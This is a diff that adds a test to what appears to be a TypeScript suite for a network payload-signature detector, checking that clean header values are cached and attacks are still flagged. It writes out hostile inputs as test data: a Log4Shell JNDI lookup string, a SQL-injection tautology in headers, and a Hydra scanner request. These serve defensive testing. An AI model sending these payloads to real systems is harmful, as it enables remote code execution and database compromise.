@@ -393,6 +393,18 @@ describe('PayloadSignatureDetector: every request of a stream, by named part', (
     assert.equal(h.raised.find((a) => a.attack_type === 'SQL_INJECTION')!.attack_details.matched_part, 'header X-Forwarded-For');
   });
 
+  test('values searched once per session: a clean value is remembered, an attack is found every time', () => {
+    const { h, c } = conn();
+    for (let i = 0; i < 30; i++) c.send(get(`/p${i}`, 'Cookie: session=6f1c2a9e; theme=dark\r\n'));
+    assert.ok(h.det.clean.hits >= 29 * 2, `${h.det.clean.hits} remembered`);
+    c.send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n')).send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n'));
+    assert.deepEqual(h.types(), ['LOG4SHELL']);
+    assert.equal(h.raised[0]!.attack_details.requests, 2);
+    // A value clean for the types of one header is still searched for the types of another.
+    c.send(get('/', "X-Note: 1' OR '1'='1\r\nReferer: 1' OR '1'='1\r\n"));
+    assert.deepEqual(h.types(), ['LOG4SHELL', 'SQL_INJECTION']);
+  });
+
   test("hydra's own User-Agent is a scanner's", () => {
     const { h, c } = conn();
     c.send(`GET /protected/ HTTP/1.1\r\nHost: ${VICTIM}\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\nAuthorization: Basic YWRtaW46Z3Vlc3M=\r\n\r\n`);
